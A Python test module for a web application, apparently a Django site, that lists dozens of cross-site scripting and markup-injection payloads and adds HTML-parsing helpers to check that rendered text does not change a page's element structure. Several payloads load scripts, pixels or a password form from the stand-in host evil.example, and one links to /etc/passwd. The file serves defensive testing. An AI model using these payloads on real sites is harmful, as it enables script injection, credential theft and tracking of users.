"""Texts that try to inject markup, and the structure of a page, which shows whether one did."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from typing_extensions import override

BOLD_RIGHT_TO_LEFT = "\u202e"

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onclick=alert(1) `",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<table background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>",
    "<div style='background:url(javascript:alert(1))'>",
    "<b <script>alert(1)</script>0",
    "<<script>alert(1);//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>".replace("\0", ""),
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{ 7|add:7 }}{% load static %}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/accounts/logout/)",
    '[x](https://a.example/" onclick="alert(1))',
    "[x](<https://a.example/><script>alert(1)</script>)",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](x)',
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[1]: javascript:alert(1)\n\n[1]",
    "<javascript:alert(1)>",
    "<https://a.example/onclick=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    "javascript://a.example/%0aalert(1)",
    "```<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>\n\n- <svg onload=alert(1)>\n\n# <b onclick=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$ <a id=x name=getElementById>",
    f"invoice{BOLD_RIGHT_TO_LEFT}gpj.exe<script>alert(1)</script>",
    "tag\U000e0041\U000e0042 characters <script>alert(1)</script>",
]


class Parts(HTMLParser):
    """The elements of a page with their attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def squeezed(html: str) -> str:
    """Return the page with one space for each run of white space, and none beside a tag."""
    return re.sub(r"\s*([<>])\s*", r"\1", " ".join(html.split()))


def structure(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return the elements and the names of their attributes, which no text may change."""
    return [(tag, tuple(attributes)) for tag, attributes in Parts(html).elements]
